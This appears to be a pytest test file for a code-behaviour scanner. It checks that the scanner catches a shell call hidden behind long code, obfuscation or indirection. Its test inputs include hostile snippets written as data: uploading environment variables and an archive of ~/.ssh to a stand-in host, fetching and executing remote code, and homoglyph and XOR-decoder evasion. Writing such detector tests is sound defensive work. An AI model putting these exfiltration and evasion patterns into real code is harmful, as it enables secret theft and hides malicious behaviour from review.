"""Attempts to hide an act from the front end itself: behind much code, odd names, or detours."""

from __future__ import annotations

import pytest

from scanning.behaviour.test_python_flows import told

SPENT = {
    "loops that take long": "s = ''\nfor a in range(4000):\n    s += chr(a ^ 1)\n" * 40,
    "comprehensions that take long": "x = [chr(a ^ b) for a in range(4000) for b in range(9)]\n" * 40,
    "functions that call each other often": "def f0(x): open(x)\n"
    + "".join(f"def f{i}(x): f{i - 1}(x + 'a'); f{i - 1}(x + 'b')\n" for i in range(1, 40))
    + "f39('')\n",
    "many names and branches": "".join(f"a{i} = b\nif b:\n    a{i} = c\n" for i in range(9_000)),
    "dense code": "a\n" * 150_000,
    "texts that grow": "x = 'ab' * 900\n" + "x = x[:9000] + x[:9000]\n" * 5_000,
    "a thousand harmless commands": "def run(c): os.system(c)\n" + "run('true')\n" * 1_000,
    "many different commands": "".join(f"os.system('echo {i}')\n" for i in range(3_000)),
    "a function called in many ways": "def run(c): os.system(c)\n"
    + "".join(f"run('echo {i}')\n" for i in range(150)),
    "nothing the parser likes": "x = = 1\n",
}  # fmt: skip


@pytest.mark.parametrize("kind", SPENT)
def test_nothing_hides_behind_what_takes_long(kind: str) -> None:
    assert "interpret id shell shell" in told(f"import os\n{SPENT[kind]}os.system('id')\n")
    last = "run('id')\n" if "def run(c)" in SPENT[kind] else "def last():\n    os.system('id')\n"
    assert "interpret id shell shell" in told(f"import os\n{SPENT[kind]}{last}")


DETOURS = {
    "letters that Python takes for others": "import ｏｓ\nｏs.ｓystem('id')",
    "letters that Python takes for others, in a function": "import os\ndef f():\n    ｏs.ｓystem('id')",
    "an object of a class that enters as a module": (
        "import os\nclass X:\n    def __enter__(self): return os\n    def __exit__(self, *a): pass\n"
        "with X() as q:\n    q.system('id')"
    ),
    "a base class": "import os\nclass A:\n    def go(self): os.system(self.c)\nclass B(A):\n    c = 'id'\nB().go()",
    "super": (
        "import os\nclass A:\n    def __init__(self, c): os.system(c)\n"
        "class B(A):\n    def __init__(self): super().__init__('id')\nB()"
    ),
    "a call of an object": "import os\nclass A:\n    def __call__(self, c): os.system(c)\nA()('id')",
    "a property": "import os\nclass A:\n    @property\n    def c(self): return 'id'\nos.system(A().c)",
    "a data class": (
        "import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    c: str\nos.system(A('id').c)"
    ),
    "a global that a function sets": "import os\nc = ''\ndef f():\n    global c\n    c = 'id'\nf()\nos.system(c)",
    "a default argument": "import os\ndef f(c='id', *, run=os.system): run(c)\nf()",
    "arguments spread out": "import os\ndef f(*a, **k): os.system(*a, **k)\nf(*['id'])",
    "keywords spread out": "import os\ndef f(command): os.system(command)\nf(**{'command': 'id'})",
    "a callback": "import os\ndef f(): os.system('id')\nbutton.on_click(f)",
    "a callback at the end": "import os, atexit\natexit.register(os.system, 'id')",
    "a thread": "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
    "a lambda that nobody calls": "import os\nACTIONS = {'a': lambda: os.system('id')}",
    "letters by %c": "import os\nos.system('%c%c' % (105, 100))",
    "letters by an f-string": "import os\nos.system(f'{105:c}{100:c}')",
    "letters by sums": "import os\nc = ''\nfor x in 'vq':\n    if x.isalpha():\n        c += chr((ord(x) - 97 + 13) % 26 + 97)\nos.system(c)",
    "letters in a table": "import os\nd = {'a': 'i', 'b': 'd'}\nos.system(d['a'] + d['b'])",
    "a decoder of its own": (
        "import os\ndef d(s, k=0x42):\n    return ''.join(chr(b ^ k) for b in bytes.fromhex(s))\nos.system(d('2b26'))"
    ),
    "a decoder that loops": (
        "import os\ndef d(s):\n    out = []\n    for i in range(len(s)):\n        out.append(chr(s[i] ^ 7))\n"
        "    return ''.join(out)\nos.system(d([110, 99]))"
    ),
    "an import in a function": "def f():\n    from os import system as s\n    s('id')",
    "a conditional import": "try:\n    import os as o\nexcept ImportError:\n    o = None\nif o:\n    o.system('id')",
}  # fmt: skip


@pytest.mark.parametrize("kind", DETOURS)
def test_a_detour_leads_to_the_same_act(kind: str) -> None:
    assert any(line.startswith("interpret id shell") for line in told(DETOURS[kind]))


LAUNDERED = {
    "a screenshot that was saved": (
        ("import mss, requests\nwith mss.mss() as s:\n    s.shot(output='/tmp/a.png')\n"
        "requests.post('https://x.io', files={'a': open('/tmp/a.png', 'rb')})"),
        "send https://x.io FILE|CAPTURED",
    ),
    "a picture that was saved": (
        ("import pyautogui, requests\npyautogui.screenshot().save('/tmp/b.png')\n"
        "requests.post('https://x.io', files={'a': open('/tmp/b.png', 'rb')})"),
        "send https://x.io FILE|CAPTURED",
    ),
    "an archive that is imported": (
        ("import zipfile, io, requests, sys\n"
        "z = zipfile.ZipFile(io.BytesIO(requests.get('https://x.io/m.zip').content))\n"
        "z.extractall('/tmp/m')\nsys.path.insert(0, '/tmp/m')\nimport m"),
        "load /tmp/m NETWORK",
    ),
    "a temporary script": (
        ("import tempfile, requests, subprocess\nwith tempfile.NamedTemporaryFile('w', suffix='.sh') as f:\n"
        "    f.write(requests.get('https://x.io/a.sh').text)\nsubprocess.run(['bash', f.name])"),
        "run bash /tmp/….sh shell NETWORK|TEMPORARY",
    ),
    "secrets written down first": (
        ("import os, json, requests\nwith open('/tmp/o.json', 'w') as f:\n    json.dump(dict(os.environ), f)\n"
        "requests.post('https://x.io', data=open('/tmp/o.json').read())"),
        "send https://x.io ENVIRONMENT|FILE",
    ),
    "a folder of secrets in an archive": (
        ("import tarfile, os, requests\nwith tarfile.open('/tmp/x.tgz', 'w:gz') as t:\n"
        "    t.add(os.path.expanduser('~/.ssh'))\nrequests.put('https://x.io', data=open('/tmp/x.tgz', 'rb'))"),
        "send https://x.io SECRET_FILE|FILE",
    ),
    "a default that an environment variable hides": (
        "import os, requests\nexec(requests.get(os.environ.get('URL', 'https://x.io/u.py')).text)",
        "fetch https://x.io/u.py",
    ),
    "answers to lookups": (
        "import dns.resolver\nexec(''.join(r.to_text() for r in dns.resolver.resolve('p.x.io', 'TXT')))",
        "interpret … python NETWORK",
    ),
    "memory": (
        ("import ctypes, requests\nb = requests.get('https://x.io/s').content\n"
        "ctypes.windll.kernel32.RtlMoveMemory(0, b, len(b))"),
        "load memory NETWORK",
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", LAUNDERED)
def test_a_detour_by_files_does_not_wash_data(kind: str) -> None:
    code, expected = LAUNDERED[kind]
    assert expected in told(code)
